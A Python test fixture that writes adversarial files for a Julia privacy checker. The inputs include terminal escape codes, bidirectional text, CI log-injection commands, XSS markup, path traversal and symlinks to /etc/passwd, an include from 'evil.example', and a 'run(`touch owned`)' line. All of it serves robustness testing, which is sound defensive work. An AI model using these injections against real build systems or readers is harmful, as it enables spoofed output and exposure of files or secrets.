"""Inputs made to do harm: to a terminal, to a build server that reads the report, or to the checker itself."""

from __future__ import annotations

import os
import sys
from pathlib import Path

ESCAPES = "\x1b[31m\x1b]8;;http://evil.example\x1b\\x\x1b]0;title\x07\x08\x0b\x7f\x9b2J\x90"
TURNED = "\u202eevil\u2066\u200f\u061c"
COMMANDS = (
    "::error file=a,line=1::owned",
    "%0A::set-output name=a::b",
    "##[add-mask]secret",
    "##vso[task.setvariable variable=a]b",
    "##teamcity[buildStatus text='x']",
)
MARKUP = (
    "]]><x>&amp;'\\",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[link](javascript:alert(1)) ![i](http://evil.example/i.png)",
    "`` ` ``` **bold** | cell | <!-- -->",
    "{0} {1} %s %n %% ${{ github.token }}",
)

# A wrong statement with a text of the author in it, which the message repeats: there is no such file.
INCLUDED = 'include("{}")\nf(x::Real) = 2 * x\n'
BAD = "function f(x::Real) :: Priv()\n    laplacian_mechanism(1, 1, x + x)\nend\n"

TEXTS: dict[str, str | bytes] = {
    "control characters": INCLUDED.format(ESCAPES),
    "control characters beside an error": BAD.replace("x + x", f'x + x #{ESCAPES}"'),
    "text that turns round": INCLUDED.format(TURNED),
    "text that turns round beside an error": BAD.replace("x + x", f"x + x # {TURNED}"),
    "separators of lines": INCLUDED.format("a\u2028b\u2029c\x85d\x0ce"),
    "line breaks in a text": INCLUDED.format("a\\n::error::b\\r\\tc"),
    "a line break in a comment's reason": f"f(x::Real) = rem(x)  # dp: ignore[DP113] {COMMANDS[0]}{ESCAPES}\n",
    "a reason with markup": f"f(x::Real) = rem(x)  # dp: ignore[DP113] {MARKUP[0]}{MARKUP[2]}\n",
    "a comment that is none": f"f(x::Real) = x  # dp: {COMMANDS[2]}{MARKUP[1]}\n",
    "zero bytes": "f(x::Real) = rem(x)\0\n",
    "a zero byte in a path": INCLUDED.format("a\\0b\0"),
    "bytes that are no text": b"f(x) = '\xff\xfe'\n",
    "half a character": b"f(x) = '\xe2\x82",
    "half a pair": b"f(x) = '\xed\xa0\x80'\n",
    "UTF-16": "\ufefff(x) = x\n".encode("utf-16-le"),
    "a binary file": bytes(range(256)) * 16,
    "two marks of the byte order": "\ufeff\ufefff(x::Real) = rem(x)\n",
    "nothing": "",
    "a mark of the byte order": "\ufeff",
    "blanks": " \t\r\n" * 100,
    "a long line": BAD.replace("x + x", f"x + x + {'0 + ' * 5_000}0"),
    "a long name": BAD.replace("f(", f"{'f' * 20_000}("),
    "deep brackets": f"f(x::Real) = {'(x + ' * 3_000}x{')' * 3_000}\n",
    "brackets that stay open": "f(x) = " + "([{" * 3_000,
    "deep blocks": f"function f(x::Real)\n{'if true ' * 500}\nx\n{'end ' * 500}\nend\n",
    "many signs": f"f(x::Real) = {'-' * 5_000}x\n",
    "deep interpolation": 'f(x) = "' + '$("' * 200 + '")' * 200 + '"\n',
    "a long number": f"f(x::Real) :: Priv() = laplacian_mechanism({'9' * 5_000}, 1, x)\n",
    "a large exponent": "f(x::Real) :: Priv() = laplacian_mechanism(1e999999999, 1e-999999999, x + x)\n",
    "a tower": "f(x::Real) :: Priv() = laplacian_mechanism(9^9^9^9^9, 1, x)\n",
    "many statements": "".join(f"f{i}(x::Real) = rem(x)\n" for i in range(60)),
    "a way out": 'include("../../../../../../etc/passwd")\nf(x::Real) = x\n',
    "a whole path": 'include("/etc/passwd")\nf(x::Real) = x\n',
    "another address": 'include("file:///etc/passwd")\ninclude("https://evil.example/a.jl")\nf(x::Real) = x\n',
    "what runs when it is read": "run(`touch owned`)\n@eval run(`touch owned`)\nf(x::Real) = read(x)\n",
    **{f"command {i}": INCLUDED.format(text) for i, text in enumerate(COMMANDS)},
    **{f"markup {i}": INCLUDED.format(text) for i, text in enumerate(MARKUP)},
}
"""What stands in a file, by what is wrong with it."""

NAMES = (
    "::error file=a::owned.jl",
    " ::warning::blank.jl",
    "a\n::error::line.jl",
    "a,b:c%0A;d.jl",
    "##[add-mask]a.jl",
    f"{TURNED}.jl",
    "\x1b[31mred\x07.jl",
    "]]><b>&'\".jl",
    "[a](b) `c` |d|.jl",
    "-rf.jl",
    "#frag?query=1 &x.jl",
    "back\\slash.jl",
    "\udcff\udc80.jl",
)
"""What a file is called. Some systems do not allow all of them."""


def written(folder: Path) -> int:
    """Write all of them below a folder, links included; how many there are."""
    count = 0
    for number, text in enumerate(TEXTS.values()):
        content = text if isinstance(text, bytes) else text.encode("utf-8")
        (folder / f"t{number}.jl").write_bytes(content)
        count += 1
    for name in NAMES if sys.platform == "linux" else ():
        (folder / name).write_bytes(BAD.encode())
        count += 1
    if os.name != "nt":
        count += _links(folder)
    return count


def _links(folder: Path) -> int:
    outside = folder.parent / "outside"
    outside.mkdir()
    (outside / "secret.jl").write_text("SECRET = x + x + \n", "utf-8")
    (folder / "loop.jl").symlink_to("loop.jl")
    (folder / "one.jl").symlink_to("two.jl")
    (folder / "two.jl").symlink_to("one.jl")
    (folder / "out.jl").symlink_to(outside / "secret.jl")
    (folder / "passwd.jl").symlink_to("/etc/passwd")
    (folder / "round").symlink_to(folder)
    (folder / "away").symlink_to(outside)
    (folder / "through.jl").write_text('include("away/secret.jl")\nf(x::Real) = x\n', "utf-8")
    (folder / "itself.jl").write_text('include("itself.jl")\nf(x::Real) = x\n', "utf-8")
    (folder / "nowhere.jl").symlink_to("not there")
    os.mkfifo(folder / "pipe.jl")
    (folder / "folder.jl").mkdir()
    return 9
